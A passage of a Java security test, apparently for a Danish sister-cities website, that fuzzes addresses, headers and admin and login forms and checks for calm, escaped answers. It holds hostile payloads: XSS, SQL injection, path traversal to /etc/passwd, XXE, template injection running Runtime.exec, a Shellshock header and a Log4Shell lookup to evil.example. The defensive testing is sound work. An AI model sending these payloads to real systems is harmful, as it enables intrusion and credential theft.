package dk.aarhus.sistercities.site;

import static org.assertj.core.api.Assertions.assertThat;

import dk.aarhus.sistercities.account.TestAccounts;
import dk.aarhus.sistercities.content.TypedText;
import dk.aarhus.sistercities.support.AdminPages;
import dk.aarhus.sistercities.support.AlsoOnPostgres;
import dk.aarhus.sistercities.support.FullAppTest;
import dk.aarhus.sistercities.support.Http;
import dk.aarhus.sistercities.support.TestDatabase;
import dk.aarhus.sistercities.support.WebSession;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.FormElement;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * What the scripts that probe every public website send, against every public address pattern and
 * every field of every admin form, over real HTTP: oversized values, malformed and overlong
 * percent-encoding, null bytes, path traversal, Unicode edge cases, HTML and script, template and SQL
 * fragments, wrong content types, huge bodies, unknown methods, hostile headers. Every answer is a
 * calm 4xx with the site's words (or an ordinary 200/3xx where the input is harmless, e.g. a search for
 * an emoji), never a 5xx, a stack trace or an exception's name; nothing is reflected unescaped; a form
 * shows what was wrong and keeps the input; nothing is stored that was not meant; the site keeps
 * answering. The number of requests of each kind is printed at the end.
 * <p>
 * The admin forms leave drafts of hostile text behind: the shared context's data is reset before the
 * next class ({@link dk.aarhus.sistercities.support.DataReset}).
 * <p>
 * On PostgreSQL (the build's second run) the two tests whose input reaches the database run again: every
 * field of every admin form and of the login form (PostgreSQL refuses what H2 may store, e.g. a NUL
 * character), with the values the two databases could store differently. The addresses, methods, bodies, framing and headers reach no query and run on H2 only.
 */
@FullAppTest
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    /** A value to send: its kind, and either the text (encoded as it should be) or the bytes as they are sent. */
    record Payload(String kind, String text, String raw) {

        static Payload text(String kind, String text) {
            return new Payload(kind, text, null);
        }

        static Payload raw(String kind, String raw) {
            return new Payload(kind, null, raw);
        }

        /** For an address: as sent in a path segment or query value. */
        String inAddress() {
            if (raw != null) {
                return raw;
            }
            return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        }

        @Override
        public String toString() {
            String shown = raw != null ? raw : text;
            shown = shown.codePoints().limit(40).collect(StringBuilder::new, (b, c) -> {
                if (c < 0x20 || c == 0x7f) {
                    b.append(String.format("\\x%02x", c));
                } else {
                    b.appendCodePoint(c);
                }
            }, StringBuilder::append).toString();
            return kind + ": " + shown + (raw != null ? " (raw)" : "");
        }
    }

    static final String XSS = "<script>alert(1)</script>";

    static List<Payload> payloads() {
        List<Payload> p = new ArrayList<>();
        // Oversized (the last two make the address longer than the site takes).
        p.add(Payload.text("oversized", "a".repeat(1000)));
        p.add(Payload.text("oversized", "bergen-".repeat(250)));
        p.add(Payload.text("oversized", "ø".repeat(400)));
        p.add(Payload.text("oversized", "x".repeat(5000)));
        // Malformed percent-encoding.
        for (String raw : List.of("%", "%zz", "%e", "%%%", "%u0041", "%G1", "abc%", "%2", "%%32%65", "bergen%")) {
            p.add(Payload.raw("malformed percent-encoding", raw));
        }
        // Overlong and invalid UTF-8, lone surrogates encoded in UTF-8.
        for (String raw : List.of("%c0%ae%c0%ae", "%c0%af", "%e0%80%af", "%f0%80%80%af", "%c1%bf", "%ed%a0%80",
                "%ed%b0%80", "%f8%88%80%80%80", "%ff%fe", "%c3", "%e2%82")) {
            p.add(Payload.raw("overlong or invalid UTF-8", raw));
        }
        // Null bytes.
        for (String raw : List.of("%00", "a%00b", "bergen%00.css", "%2500", "bergen%00")) {
            p.add(Payload.raw("null byte", raw));
        }
        p.add(Payload.text("null byte", "bergen\u0000"));
        // Path traversal.
        for (String raw : List.of("..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%252e%252e%252fetc%252fpasswd",
                "..%5c..%5cwindows%5cwin.ini", "..;/..;/admin", "%2e%2e%3b/admin", "..%c0%af..%c0%afetc",
                ".%2e/.%2e/application.properties", "../../../../etc/passwd", "....//....//etc/passwd",
                "WEB-INF/web.xml", "META-INF/MANIFEST.MF", ".git/config", "%2fetc%2fpasswd", "..", "./.")) {
            p.add(Payload.raw("path traversal", raw));
        }
        p.add(Payload.text("path traversal", "classpath:application.properties"));
        p.add(Payload.text("path traversal", "file:///etc/passwd"));
        p.add(Payload.text("path traversal", "..\\..\\boot.ini"));
        // Unicode edge cases.
        for (String text : List.of("\u202Egnp.exe", "e" + "\u0301\u0302\u0303\u0304".repeat(50), "🇩🇰👍🏽🏳️‍🌈",
                "\u200B\u200C\u200D\uFEFF", "Ｂｅｒｇｅｎ", "Веrgen", "\uFFFF\uFFFE", "İıſK", "𝔅𝔢𝔯𝔤𝔢𝔫",
                "\u0085\u2028\u2029", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629", "\uD800", "\uDC00x")) {
            p.add(Payload.text("Unicode edge case", text));
        }
        // HTML, script and template expressions.
        for (String text : List.of(XSS, "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
                "</title><svg onload=alert(1)>", "'-alert(1)-'", "<!--", "]]>", "&lt;&#x3C;", "${7*7}",
                "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "#{7*7}", "*{7*7}",
                "{{7*7}}", "<a href=\"javascript:alert(1)\">x</a>", "[x](javascript:alert(1))")) {
            p.add(Payload.text("HTML, script or template", text));
        }
        // SQL fragments.
        for (String text : List.of("' OR '1'='1", "1; DROP TABLE city; --", "\" OR 1=1 --",
                "1' UNION SELECT username, password_hash FROM account --", "%' AND SLEEP(5) --", "'; SHUTDOWN; --",
                "1 OR 1=1", "admin'--", "\\'", "' || (SELECT 1) || '")) {
            p.add(Payload.text("SQL fragment", text));
        }
        return p;
    }

    /** Every public address pattern, with the place a value goes. */
    static final List<String> ADDRESS_PATTERNS = List.of("/{}", "/da/{}", "/en/{}", "/en/cities/{}", "/da/venskabsbyer/{}",
            "/en/partnerships/{}", "/{}/cities/bergen", "/en/search?q={}", "/da/soeg?q=bergen&page={}",
            "/en/map?x={}", "/en/contact?x={}", "/da/feed.xml?x={}", "/sitemap.xml?x={}", "/robots.txt?x={}",
            "/css/{}", "/flags/{}", "/images/{}", "/favicon.svg?v={}", "/was?x={}", "/en/cities/bergen?x={}",
            "/login?error={}", "/admin/cities/{}", "/{}/feed.xml",
            "/data/{}", "/en/data?x={}", "/data/partnerships.csv?x={}",
            // The first release's Danish addresses answer 301 with the query as sent.
            "/da/cities/{}", "/da/search?q={}", "/da/partnerships/{}", "/da/soeg?q={}");

    static final Map<String, AtomicInteger> COUNTS = new ConcurrentHashMap<>();

    static void count(String kind) {
        COUNTS.computeIfAbsent(kind, k -> new AtomicInteger()).incrementAndGet();
    }

    @AfterAll
    static void printCounts() {
        Map<String, Integer> sorted = new TreeMap<>();
        COUNTS.forEach((kind, n) -> sorted.put(kind, n.get()));
        StringBuilder table = new StringBuilder("\nHostile requests sent, by kind:\n");
        sorted.forEach((kind, n) -> table.append(String.format("  %-48s %6d%n", kind, n)));
        table.append(String.format("  %-48s %6d%n", "total", sorted.values().stream().mapToInt(Integer::intValue).sum()));
        System.out.println(table);
        try {
            java.nio.file.Files.createDirectories(java.nio.file.Path.of("target"));
            java.nio.file.Files.writeString(java.nio.file.Path.of("target", "hostile-requests.txt"), table);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @LocalServerPort
    int port;

    @Autowired
    JdbcTemplate jdbc;

    Http http;

    @BeforeEach
    void client() {
        http = new Http(port);
    }

    /** What every answer to a hostile request must be like. */
    /** {@code body} is null for an answer to HEAD. */
    static void assertCalm(String what, int status, Function<String, List<String>> headers, String body) {
        assertThat(status).as(what + ": an answer").isGreaterThanOrEqualTo(200);
        assertThat(status).as(what + ": never a server error").isLessThan(500);
        assertThat(status).as(what + ": a 4xx, or an ordinary answer").isNotIn(201, 202, 204, 206);
        assertThat(headers.apply("Content-Security-Policy")).as(what + ": the security headers").hasSize(1);
        if (body == null) {
            return;
        }
        assertThat(body).as(what + ": no stack trace or exception")
                .doesNotContain("Exception", "\tat ", "at java.", "at org.", "org.springframework", "org.hibernate",
                        "org.h2", "jakarta.", "Whitelabel", "Tomcat", "SQLState", "Caused by");
        assertThat(body).as(what + ": nothing reflected unescaped")
                .doesNotContain(XSS, "<img src=x onerror", "<svg onload", "href=\"javascript:");
        if (status >= 400) {
            assertThat(Jsoup.parse(body).select("h1").text()).as(what + ": a clear message (" + status + ")").isNotBlank();
        }
    }

    void assertStillAnswering() {
        assertThat(http.get("/en").statusCode()).isEqualTo(200);
        assertThat(http.get("/da/venskabsbyer/bergen").statusCode()).isEqualTo(200);
    }

    static Stream<Payload> everyPayload() {
        return payloads().stream();
    }

    @Order(1)
    @ParameterizedTest(name = "{0}")
    @MethodSource("everyPayload")
    void everyPublicAddressPattern(Payload payload) throws Exception {
        // Four at a time, as a scanner sends them: each pattern on a connection of its own.
        List<java.util.concurrent.Callable<Void>> requests = new ArrayList<>();
        for (String pattern : ADDRESS_PATTERNS) {
            String target = pattern.replace("{}", payload.inAddress());
            for (String method : List.of("GET", "HEAD")) {
                requests.add(() -> {
                    Http.RawResponse response = http.raw(request(method + " " + rawTarget(target) + " HTTP/1.1",
                            "Accept: text/html"));
                    count("address: " + payload.kind());
                    assertCalm(method + " " + target, response.status(), response::headers,
                            method.equals("HEAD") ? null : response.body());
                    return null;
                });
            }
        }
        for (java.util.concurrent.Future<Void> sent : SCANNER.invokeAll(requests)) {
            try {
                sent.get();
            } catch (java.util.concurrent.ExecutionException e) {
                if (e.getCause() instanceof Error error) {
                    throw error;
                }
                throw e;
            }
        }
        assertStillAnswering();
    }

    /** The threads that send the addresses side by side. */
    static final java.util.concurrent.ExecutorService SCANNER = java.util.concurrent.Executors.newFixedThreadPool(4);

    @AfterAll
    static void stopScanner() {
        SCANNER.shutdownNow();
    }

    /** Non-ASCII characters of a target as UTF-8 percent-encoding; a raw NUL stays as it is. */
    private static String rawTarget(String target) {
        StringBuilder out = new StringBuilder();
        for (byte b : target.getBytes(StandardCharsets.UTF_8)) {
            out.append(b < 0 ? String.format("%%%02X", b & 0xff) : String.valueOf((char) b));
        }
        return out.toString();
    }

    @Order(2)
    @Test
    void aRawNullByteAndControlCharactersInTheRequestLine() {
        for (String target : List.of("/en/\u0000", "/en\u0000/cities", "/en/search?q=\u0000", "/en/\u0007",
                "/en/\u001b[31m", "/en/\t", "/en/ /x", "/en/\u007f")) {
            Http.RawResponse response = http.raw(("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close"
                    + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
            count("address: control bytes in the request line");
            assertCalm(target, response.status(), response::headers, response.body());
        }
        assertStillAnswering();
    }

    static final List<String> METHODS = List.of("TRACE", "TRACK", "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE",
            "LOCK", "UNLOCK", "PATCH", "PUT", "DELETE", "OPTIONS", "SEARCH", "DEBUG", "FOO", "get", "CONNECT",
            "M".repeat(300), "GET\u0000", "PRI");

    static final List<String> SAMPLE_ADDRESSES = List.of("/", "/en", "/da/venskabsbyer/bergen", "/en/search?q=x",
            "/en/map", "/sitemap.xml", "/robots.txt", "/favicon.svg", "/login", "/logout", "/admin", "/admin/cities/1",
            "/admin/accounts", "/error", "/en/feed.xml");

    static Stream<String> methods() {
        return METHODS.stream();
    }

    @Order(3)
    @ParameterizedTest(name = "{0}")
    @MethodSource("methods")
    void unknownAndUnwelcomeMethods(String method) {
        for (String address : SAMPLE_ADDRESSES) {
            String target = method.equals("CONNECT") ? "localhost:443" : address;
            Http.RawResponse response = http.raw(request(method + " " + target + " HTTP/1.1", "Content-Length: 0"));
            count("unknown or unwelcome method");
            assertCalm(method + " " + address, response.status(), response::headers, response.body());
            if (!method.equals("OPTIONS")) {
                assertThat(response.status()).as(method + " " + address).isGreaterThanOrEqualTo(300);
            }
            assertThat(response.body()).as("TRACE echoes nothing").doesNotContain("Content-Length: 0");
        }
        assertStillAnswering();
    }

    /** Bodies of the wrong kind, and bodies of the wrong size, sent where no such body is expected. */
    static List<Map.Entry<String, byte[]>> bodies() {
        List<Map.Entry<String, byte[]>> bodies = new ArrayList<>();
        bodies.add(Map.entry("application/json", bytes("{\"q\":\"x\",\"username\":{\"$ne\":null}}")));
        bodies.add(Map.entry("application/json", bytes("{".repeat(10_000))));
        bodies.add(Map.entry("application/xml", bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "
                + "\"file:///etc/passwd\">]><x>&xxe;</x>")));
        bodies.add(Map.entry("text/plain", bytes("hello")));
        bodies.add(Map.entry("multipart/form-data; boundary=zz", bytes("--zz\r\nContent-Disposition: form-data; "
                + "name=\"q\"\r\n\r\nx\r\n--zz")));
        bodies.add(Map.entry("multipart/form-data", bytes("no boundary at all")));
        bodies.add(Map.entry("multipart/form-data; boundary=" + "b".repeat(200), bytes("garbage")));
        bodies.add(Map.entry("application/x-www-form-urlencoded", bytes("q=%zz&username=%c0%ae&a=%00")));
        bodies.add(Map.entry("application/x-www-form-urlencoded; charset=x-bogus", bytes("q=x")));
        bodies.add(Map.entry("application/x-www-form-urlencoded; charset=utf-16", bytes("q=x")));
        bodies.add(Map.entry("application/x-java-serialized-object", new byte[] {(byte) 0xac, (byte) 0xed, 0, 5}));
        bodies.add(Map.entry("%%%", bytes("x")));
        bodies.add(Map.entry("application/x-www-form-urlencoded", bytes("a=" + "b".repeat(3 * 1024 * 1024))));
        byte[] big = new byte[7 * 1024 * 1024];
        Arrays.fill(big, (byte) 'z');
        bodies.add(Map.entry("application/octet-stream", big));
        return bodies;
    }

    static Stream<Map.Entry<String, byte[]>> everyBody() {
        return bodies().stream();
    }

    @Order(4)
    @ParameterizedTest(name = "{index}")
    @MethodSource("everyBody")
    void wrongContentTypesAndHugeBodies(Map.Entry<String, byte[]> body) {
        boolean huge = body.getValue().length > 1024 * 1024;
        for (String address : List.of("/en", "/en/search", "/da/venskabsbyer/bergen", "/login", "/admin/cities/new",
                "/sitemap.xml", "/css/site.css")) {
            for (String method : List.of("POST", "PUT")) {
                ByteArrayOutputStream request = new ByteArrayOutputStream();
                request.writeBytes(bytes(method + " " + address + " HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n"
                        + "Connection: close\r\nContent-Type: " + body.getKey() + "\r\nContent-Length: "
                        + body.getValue().length + "\r\n\r\n"));
                request.writeBytes(body.getValue());
                Http.RawResponse response = http.raw(request.toByteArray());
                count(huge ? "huge body" : "wrong content type");
                assertCalm(method + " " + address + " " + body.getKey(), response.status(), response::headers,
                        response.body());
                assertThat(response.status()).as(method + " " + address).isGreaterThanOrEqualTo(300);
            }
        }
        assertStillAnswering();
    }

    @Order(5)
    @Test
    void brokenFraming() {
        List<String> requests = List.of(
                "POST /en HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                "POST /en HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
                "POST /en HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
                "POST /en HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
                "POST /en HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999999999999\r\n\r\n",
                "POST /en HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: gzip\r\n\r\nabc",
                "POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\n\r\nusername=a&password=b&junk",
                "GET /en HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
                "GET /en HTTP/1.1\r\nHost: localhost\r\n Folded: header\r\n\r\n",
                "GET /en HTTP/1.1\r\nHost: localhost\r\nBad Header: x\r\n\r\n",
                "GET /en HTTP/1.1\nHost: localhost\n\n",
                "GET  /en  HTTP/1.1\r\nHost: localhost\r\n\r\n",
                "GET http://evil.example/en HTTP/1.1\r\nHost: localhost\r\n\r\n",
                "GET * HTTP/1.1\r\nHost: localhost\r\n\r\n",
                "GET /en HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue-please\r\n\r\n",
                "GET /en HTTP/2.0\r\nHost: localhost\r\n\r\n");
        for (String request : requests) {
            String withClose = request.replaceFirst("\r?\n", "\r\nConnection: close\r\n");
            Http.RawResponse response = http.raw(withClose.getBytes(StandardCharsets.ISO_8859_1));
            count("broken framing");
            assertCalm(request.lines().findFirst().orElseThrow(), response.status(), response::headers,
                    response.body());
        }
        assertStillAnswering();
    }

    @Order(6)
    @Test
    void hostileHeaders() {
        List<String[]> headers = new ArrayList<>();
        for (String value : List.of("../../etc/passwd", "*;q=abc", "x".repeat(5000), "da;q=2, en;q=-1, ,,,",
                "zz-ZZ-u-ca-hebrew", "\u00e6\u00f8\u00e5", XSS)) {
            headers.add(new String[] {"Accept-Language", value});
        }
        for (String value : List.of("application/json", "garbage", "*/*;q=abc", "text/html;level=" + "9".repeat(50))) {
            headers.add(new String[] {"Accept", value});
        }
        headers.add(new String[] {"Accept-Encoding", "gzip;q=abc, br, zstd, " + "x,".repeat(500)});
        headers.add(new String[] {"If-None-Match", "\"" + "a".repeat(2000) + "\", W/, *, ,"});
        headers.add(new String[] {"If-Modified-Since", "not a date"});
        headers.add(new String[] {"If-Modified-Since", "Thu, 01 Jan 1970 00:00:00 GMT; length=-1"});
        headers.add(new String[] {"Range", "bytes=" + "0-0,".repeat(500) + "0-0"});
        headers.add(new String[] {"Range", "bytes=999999999-"});
        headers.add(new String[] {"Cookie", "JSESSIONID=../../etc/passwd"});
        headers.add(new String[] {"Cookie", "SESSION=" + XSS});
        headers.add(new String[] {"Cookie", "a=b; ".repeat(300)});
        headers.add(new String[] {"X-Forwarded-For", XSS});
        headers.add(new String[] {"X-Forwarded-For", "1.1.1.1, 2.2.2.2, " + "3.3.3.3, ".repeat(100) + "x"});
        headers.add(new String[] {"X-Forwarded-Proto", "javascript"});
        headers.add(new String[] {"X-Forwarded-Host", "evil.example"});
        headers.add(new String[] {"X-Forwarded-Port", "-1"});
        headers.add(new String[] {"Host", "evil.example"});
        headers.add(new String[] {"Host", "localhost:99999"});
        headers.add(new String[] {"Referer", "javascript:alert(1)"});
        headers.add(new String[] {"User-Agent", "() { :; }; /bin/cat /etc/passwd"});
        headers.add(new String[] {"User-Agent", "${jndi:ldap://evil.example/a}"});
        headers.add(new String[] {"X-Original-URL", "/admin/accounts"});
        headers.add(new String[] {"X-Rewrite-URL", "/admin/accounts"});
        headers.add(new String[] {"X-HTTP-Method-Override", "DELETE"});
        headers.add(new String[] {"Content-Type", "application/json"});
        for (String[] header : headers) {
            for (String address : List.of("/en", "/da/venskabsbyer/bergen", "/favicon.svg", "/", "/login", "/admin/accounts",
                    "/en/search?q=bergen")) {
                String line = header[0].equals("Host") ? "" : "Host: localhost\r\n";
                Http.RawResponse response = http.raw(("GET " + address + " HTTP/1.1\r\n" + line + header[0] + ": "
                        + new String(header[1].getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1)
                        + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
                count("hostile header");
                String what = header[0] + " " + header[1].substring(0, Math.min(40, header[1].length())) + " " + address;
                assertCalm(what, response.status(), response::headers, response.body());
                if (address.startsWith("/admin")) {
                    assertThat(response.status()).as(what + ": the admin stays closed").isIn(302, 400, 401, 403);
                }
            }
        }
        // Nothing a header said was kept in the page cache for the next citizen.
        for (String address : List.of("/en", "/da/venskabsbyer/bergen", "/")) {
            String page = http.get(address).body() + http.get(address).headers().map();
            assertThat(page).doesNotContain("evil.example", XSS);
        }
        assertStillAnswering();
    }

    // ---------------------------------------------------------------- the admin forms

    /** Hostile values for form fields (sent URL-encoded, as a browser would). */
    /**
     * The values a form field meets. On PostgreSQL only those the two databases could store differently
     * (lengths, NUL and control characters, Unicode, numbers, SQL, invalid UTF-8): markup and malformed
     * percent-encoding are answered before any query, the same whatever the database, and run on H2 only.
     */
    static List<Payload> fieldPayloads() {
        if (TestDatabase.postgres()) {
            return allFieldPayloads().stream().filter(p -> !p.kind().equals("HTML, script or template")
                    && !p.kind().equals("malformed percent-encoding")).toList();
        }
        return allFieldPayloads();
    }

    private static List<Payload> allFieldPayloads() {
        List<Payload> p = new ArrayList<>();
        p.add(Payload.text("oversized", "a".repeat(25_000)));
        p.add(Payload.text("oversized", "ø".repeat(600)));
        p.add(Payload.text("null byte", "Bergen\u0000x"));
        p.add(Payload.text("null byte", "\u0000"));
        p.add(Payload.text("control characters", "a\u0007b\u001b[31mc\u0008"));
        p.add(Payload.text("Unicode edge case", "\u202Egnp.exe"));
        p.add(Payload.text("Unicode edge case", "e" + "\u0301\u0302".repeat(100)));
        p.add(Payload.text("Unicode edge case", "🇩🇰👍🏽🏳️‍🌈"));
        p.add(Payload.text("Unicode edge case", "\u200B\uFEFF"));
        p.add(Payload.text("Unicode edge case", "𝔅𝔢𝔯𝔤𝔢𝔫 Веrgen"));
        p.add(Payload.text("HTML, script or template", XSS));
        p.add(Payload.text("HTML, script or template", "\"><img src=x onerror=alert(1)>"));
        p.add(Payload.text("HTML, script or template", "javascript:alert(1)"));
        p.add(Payload.text("HTML, script or template", "[[${T(java.lang.Runtime).getRuntime()}]]"));
        p.add(Payload.text("HTML, script or template", "[x](javascript:alert(1)) <a href=\"javascript:alert(1)\">y</a>"));
        p.add(Payload.text("SQL fragment", "' OR '1'='1"));
        p.add(Payload.text("SQL fragment", "1; DROP TABLE city; --"));
        p.add(Payload.text("number edge case", "-1"));
        p.add(Payload.text("number edge case", "99999999999999999999999"));
        p.add(Payload.text("number edge case", "NaN"));
        p.add(Payload.text("number edge case", "1e308"));
        p.add(Payload.raw("malformed percent-encoding", "%zz"));
        p.add(Payload.raw("overlong or invalid UTF-8", "%c0%ae"));
        p.add(Payload.raw("overlong or invalid UTF-8", "%ed%a0%80"));
        return p;
    }

    static WebSession admin;
    static AdminPages adminPages;

    private WebSession admin() {
        if (admin == null) {
            admin = new WebSession(port, "en");
            admin.logIn(TestAccounts.ADMIN_USERNAME, TestAccounts.ADMIN_PASSWORD);
            adminPages = AdminPages.prepare(admin);
        }
        return admin;
    }

    static Stream<String> adminForms() {
        return Stream.of("new city form", "city form", "partnership type form", "site text form", "new account form",
                "reset password form", "change password form", "partnership contact form with a draft",
                "new page form", "page form", "new activity form", "activity form");
    }

    @Order(7)
    @AlsoOnPostgres
    @ParameterizedTest(name = "{0}")
    @MethodSource("adminForms")
    void everyFieldOfEveryAdminForm(String formName) {
        WebSession session = admin();
        String path = adminPages.pages().stream().filter(p -> p.name().equals(formName)).findFirst().orElseThrow()
                .path();
        String publicBefore = http.get("/en/cities/bergen").body() + http.get("/da").body();
        List<String> fields = fieldsOf(mainForm(session.page(path)));
        assertThat(fields).as(formName + " fields").isNotEmpty();
        Map<String, Integer> outcomes = new TreeMap<>();
        for (Payload payload : fieldPayloads()) {
            // The form as it is now: a value saved before may have added or removed a row.
            for (List<String> group : groups(fieldsOf(mainForm(session.page(path))), payload)) {
                sendToEvery(session, formName, path, group, payload, outcomes);
            }
        }
        System.out.printf("Hostile values in the %s: %d fields, %s%n", formName, fields.size(), outcomes);
        assertThat(http.get("/en/cities/bergen").body() + http.get("/da").body())
                .as("saving drafts changed nothing citizens see").isEqualTo(publicBefore);
        assertNothingStoredRuns();
        assertStillAnswering();
    }

    /**
     * Sends the value in every field of the group at once. Where the form refuses it, each refused field
     * must say so, keep what was typed and store nothing; those fields then get their own value back and
     * the rest is sent again, until the form saves (then every field holds exactly what was typed) or
     * refuses nothing of the value any more. Every field meets the value alone or with others that
     * accept it, in two or three requests rather than one per field.
     */
    private void sendToEvery(WebSession session, String formName, String path, List<String> group, Payload payload,
            Map<String, Integer> outcomes) {
        FormElement form = mainForm(session.page(path));
        java.util.Set<String> hostile = new java.util.LinkedHashSet<>(group);
        for (int round = 1; !hostile.isEmpty(); round++) {
            long revisionsBefore = revisions();
            String what = formName + " " + payload + " in " + hostile.size() + " fields, round " + round + " "
                    + abbreviated(hostile);
            HttpResponse<String> response = submit(session, form, hostile, payload);
            count("admin form field: " + payload.kind());
            assertCalm(what, response.statusCode(), response.headers()::allValues, response.body());
            assertThat(response.statusCode()).as(what).isIn(200, 302, 400);
            if (response.statusCode() == 400) {
                assertThat(revisions()).as(what + ": nothing stored").isEqualTo(revisionsBefore);
                outcomes.merge("refused as a bad request", hostile.size(), Integer::sum);
                return;
            }
            if (response.statusCode() == 302) {
                // Saved: then exactly what was typed (less control characters) is what the form shows again.
                String location = response.headers().firstValue("Location").orElseThrow();
                assertThat(location).as(what).doesNotContain("error");
                if (payload.text() != null) {
                    FormElement saved = mainForm(session.page(location.replaceFirst("^https?://[^/]+", "")));
                    for (String field : hostile) {
                        Element shown = saved.selectFirst("[name=\"" + field + "\"]");
                        if (shown != null && !shown.tagName().equals("select")
                                && !shown.attr("type").matches("password|hidden")) {
                            assertSameInput(what + ": " + field + " stored as typed", field, shown.val(), payload.text());
                        }
                    }
                }
                outcomes.merge("saved", hostile.size(), Integer::sum);
                return;
            }
            Document shown = Jsoup.parse(response.body());
            List<String> errors = shown.select("#error-summary a[href^=#]").eachAttr("href");
            assertThat(errors).as(what + ": says what was wrong").isNotEmpty();
            for (String field : hostile) {
                Element typed = form.selectFirst("[name=\"" + field + "\"]");
                String type = typed.tagName().equals("textarea") ? "textarea" : typed.attr("type");
                Element kept = shown.selectFirst("main form [name=\"" + field + "\"]");
                if (payload.text() != null && !type.equals("password") && !type.equals("hidden") && kept != null
                        && !kept.tagName().equals("select")) {
                    assertSameInput(what + ": " + field + " keeps the input", field, kept.val(), payload.text());
                }
            }
            assertThat(revisions()).as(what + ": nothing stored").isEqualTo(revisionsBefore);
            java.util.Set<String> refused = new java.util.LinkedHashSet<>();
            for (String id : errors) {
                Element named = shown.getElementById(id.substring(1));
                if (named != null && hostile.contains(named.attr("name"))) {
                    refused.add(named.attr("name"));
                }
            }
            if (refused.isEmpty()) {
                // What is wrong is not the value (the new city form wants its address first).
                outcomes.merge("refused with the form", hostile.size(), Integer::sum);
                return;
            }
            outcomes.merge("refused", refused.size(), Integer::sum);
            hostile.removeAll(refused);
        }
    }

    /** The fields in groups whose request stays well under the 2 MB a form may send. */
    private static List<List<String>> groups(List<String> fields, Payload payload) {
        int size = payload.raw() != null ? payload.raw().length() : enc(payload.text()).length();
        int perGroup = Math.max(1, 1_000_000 / Math.max(1, size));
        List<List<String>> groups = new ArrayList<>();
        for (int i = 0; i < fields.size(); i += perGroup) {
            groups.add(fields.subList(i, Math.min(fields.size(), i + perGroup)));
        }
        return groups;
    }

    private static String abbreviated(java.util.Collection<String> fields) {
        String all = String.join(", ", fields);
        return all.length() <= 200 ? all : all.substring(0, 200) + "…";
    }

    @Order(8)
    @AlsoOnPostgres
    @Test
    void everyFieldOfTheLoginForm() {
        HttpClient client = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER)
                .cookieHandler(new java.net.CookieManager()).connectTimeout(Duration.ofSeconds(5)).build();
        long failuresBefore = jdbc.queryForObject("select count(*) from audit_log where event in "
                + "('LOGIN_FAILED', 'LOGIN_THROTTLED')", Long.class);
        int sent = 0;
        for (String field : List.of("username", "password")) {
            for (Payload payload : fieldPayloads()) {
                HttpResponse<String> page = send(client, HttpRequest.newBuilder(URI.create(http.base() + "/login")).GET());
                String token = Jsoup.parse(page.body()).selectFirst("input[name=_csrf]").val();
                String other = field.equals("username") ? "password=wrong" : "username=hostile-login";
                String value = payload.raw() != null ? payload.raw() : enc(payload.text());
                HttpResponse<String> response = send(client, HttpRequest.newBuilder(URI.create(http.base() + "/login"))
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        // From a documentation address, through the trusted local proxy: the address
                        // throttle of these failures touches no other test.
                        .header("X-Forwarded-For", "198.51.100.201")
                        .POST(HttpRequest.BodyPublishers.ofString("_csrf=" + enc(token) + "&" + other + "&" + field + "="
                                + value)));
                count("login form field: " + payload.kind());
                String what = "login " + field + " " + payload;
                assertCalm(what, response.statusCode(), response.headers()::allValues, response.body());
                assertThat(response.statusCode()).as(what).isIn(302, 400, 413);
                if (response.statusCode() == 302) {
                    assertThat(response.headers().firstValue("Location").orElse("")).as(what).endsWith("/login?error");
                    sent++;
                }
            }
        }
        long failuresAfter = jdbc.queryForObject("select count(*) from audit_log where event in "
                + "('LOGIN_FAILED', 'LOGIN_THROTTLED')", Long.class);
        assertThat(failuresAfter - failuresBefore).as("every refused login is in the audit log").isEqualTo(sent);
        assertThat(jdbc.queryForList("select actor from audit_log", String.class))
                .as("no control character stored").noneMatch(actor -> !actor.equals(TypedText.clean(actor)));
        assertStillAnswering();
    }

    /**
     * The form shows what was typed, less control characters; a number may come back in its own
